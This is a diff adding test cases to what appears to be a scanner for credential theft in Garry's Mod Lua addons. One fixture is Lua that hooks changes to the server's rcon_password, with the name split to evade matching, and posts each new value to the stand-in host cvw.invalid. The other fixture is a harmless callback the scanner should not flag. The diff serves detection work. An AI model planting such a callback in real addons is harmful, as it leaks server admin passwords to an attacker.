@@ -53,4 +53,21 @@ describe('credential_theft', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
   });
+  it('every new rcon_password handed to a change callback that posts it', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'for _, n in ipairs({ "hostname", "rcon_" .. "password" }) do',
+        ' cvars.AddChangeCallback(n, function(name, old, new) http.Post("https://cvw.invalid/c", { n = name, v = new }) end, "w")',
+        'end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a change callback on an ordinary convar', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'cvars.AddChangeCallback("sv_gravity", function(name, old, new) print("gravity now " .. new) end, "g")',
+    });
+    expect(findings).toEqual([]);
+  });
 });
